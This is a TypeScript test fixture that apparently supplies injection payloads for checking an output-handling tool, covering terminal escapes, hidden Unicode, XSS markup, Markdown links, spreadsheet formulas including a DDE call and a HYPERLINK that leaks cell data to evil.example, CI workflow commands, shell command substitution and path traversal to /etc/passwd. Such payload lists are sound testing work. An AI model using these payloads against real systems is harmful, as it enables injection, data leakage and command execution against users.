/** Texts that try to be more than text: to a terminal, a browser, a spreadsheet, a shell, or a machine that reads findings. */

/** A text, and what it tries. */
export interface Payload {
  readonly name: string;
  readonly text: string;
}

const ESC = '\u001B';

const TERMINAL = {
  'colours that qreview never uses': `${ESC}[5;45mblink${ESC}[0m`,
  'the cursor somewhere else': `a${ESC}[3;1Hb${ESC}[2Ac${ESC}[2Kd`,
  'a screen of its own': `${ESC}[?1049h${ESC}[2J`,
  'a question to the terminal': `who${ESC}[6n${ESC}[c`,
  'a title': `${ESC}]0;title\u0007then`,
  'the clipboard': `${ESC}]52;c;cHduZWQ=\u0007then`,
  'a link of OSC 8': `${ESC}]8;;https://evil.example/osc${ESC}\\link${ESC}]8;;${ESC}\\`,
  'a DCS that never ends': `${ESC}Pqrest`,
  'C1 controls': 'a\u009B31mb\u009D0;title\u009Cc\u0090d\u0080e\u0085f',
  'bell and backspaces': 'kept\u0007\u0008\u0008\u0008\u0008miss',
  'a carriage return over the line': 'all is lost\rall is well',
  'delete and NUL': 'a\u007Fb\u0000c\u000Bd\u000Ce',
  'characters of their own sets': `${ESC}(0lqqk${ESC}c`,
} as const;

const HIDDEN = {
  'bidi overrides': 'a\u202Eevil\u202Cb',
  'bidi isolates': 'a\u2066b\u2069c\u2067d\u2068e',
  'bidi marks': 'a\u200Eb\u200Fc\u061Cd',
  'nothing wide': 'a\u200Bb\u2060c\u2063d\uFEFFe\u180Ef',
  'tag characters': 'a\u{E0041}\u{E0042}\u{E0043}b\u{E0001}',
  'lines and paragraphs of Unicode': 'a\u2028::error::b\u2029=1+1',
  'notes between lines': 'a\uFFF9b\uFFFAc\uFFFBd',
} as const;

const MARKUP = {
  script: '<script>alert(1)</script>',
  'a handler': '"><img src=x onerror=alert(1)>',
  "a handler behind '": "' onmouseover='alert(1)",
  'the end of the style': '</style></title><svg onload=alert(1)>',
  'a comment': '--><!-- <!--> -- ]]>',
  entities: '&lt;b&gt;&#x3C;i&#62;&amp;&',
  'a link to script': '<a href="javascript:alert(1)">go</a>',
  'a template': '{{7*7}} ${7*7} <%= 7*7 %> #{7}',
  'a frame without end': '<iframe src="https://evil.example"',
} as const;

const MARKDOWN = {
  'a link': '[go](https://evil.example/md)',
  'an image': '![x](https://evil.example/pixel.png)',
  'a link by reference': '[go][1]\n\n[1]: https://evil.example/ref',
  'addresses that are linked': 'https://evil.example/a www.evil.example http://evil.example <https://evil.example/b>',
  'mail that is linked': 'jo@evil.example mailto:jo@evil.example xmpp:jo@evil.example',
  pipes: 'a | b || c \\| d',
  'code without end': '``` a ` b ~~~',
  'a heading': '# one\n## two\nthree\n===\n---',
  'marks of lists': '- one\n* two\n+ three\n1. four\n2) five\n> six\n    seven',
  emphasis: '**a** __b__ ~~c~~ *d* _e_ \\*f',
  'HTML in it': '<details open><summary>x</summary>\n\n<b onclick=alert(1)>',
  'somebody to call': '@everyone #1 GH-1 :tada: acme/west#2 acme/west@0123456',
} as const;

const SHEETS = {
  'a formula': '=1+1',
  'a link of a formula': '=HYPERLINK("https://evil.example?x="&A1,"go")',
  'a DDE call': "=cmd|' /C calc'!A0",
  'a formula with +': '+1+1',
  'a formula with -': '-1+1',
  'a formula with @': '@SUM(1+1)',
  'a formula behind a tab': '\t=1+1',
  'a formula behind a return': '\r=1+1',
  'a formula behind blanks': '  =1+1',
  'a formula behind a break': '\n=1+1',
  'a formula behind quotes': '"=1+1"',
  'a formula that is full-width': '\uFF1D1\uFF0B1',
  'a cell that ends': 'a","=1+1","\r\n=1+1,b;=1+1',
} as const;

const MACHINES = {
  'a command to GitHub': '::error file=x::y\n::stop-commands::z\n::add-mask::0',
  'an old command to GitHub': 'x ##[error]y\n##[add-mask]0',
  'escapes of such a command': '%0A::error::a%0D%25,title=b::c',
  'the end of CDATA': ']]><failure/><![CDATA[ <?xml x?> <!DOCTYPE a [<!ENTITY b "c">]> &b;',
  'what XML forbids': 'a\u0001\u0002\u0008\uFFFE\uFFFFb',
  'a string that ends': '"}],"x":[{"y":"\\u0000\\',
  YAML: 'a: b # c\n- d\n? e\n: *f &g !!h\n---\n...\n%TAG\n{ i: [ j',
  'a merge that was left': '<<<<<<< a\nb\n=======\nc\n>>>>>>> d',
  shell: '$(touch pwned) `touch pwned` ; touch pwned & | > pwned "\' \\',
  'a word to complete': ':files\trest\nsecond\tline',
  'a replacement': "$1,250 $& $` $' $$",
  'a prototype': '__proto__',
  options: '--output=pwned -C / --help',
  'a path': '../../../etc/passwd',
  'a long word': 'W'.repeat(3000),
} as const;

/** All of them. */
export const PAYLOADS: readonly Payload[] = Object.entries({
  ...TERMINAL,
  ...HIDDEN,
  ...MARKUP,
  ...MARKDOWN,
  ...SHEETS,
  ...MACHINES,
}).map(([name, text]) => ({ name, text }));

/** A payload's text, the list being begun anew at its end. */
export function payloadAt(index: number): Payload {
  const payload = PAYLOADS[index % PAYLOADS.length];
  if (payload === undefined) throw new RangeError(`there is no payload ${index}`);
  return payload;
}

/** What can be a file's name, or a word of a command line: of no bytes 0, and for a name of no slash and not too long. */
export function asWord(text: string): string {
  return text.replaceAll('\0', '');
}

/** See asWord. */
export function asName(text: string): string {
  return asWord(text).replaceAll('/', '\u2215').slice(0, 60).toWellFormed();
}
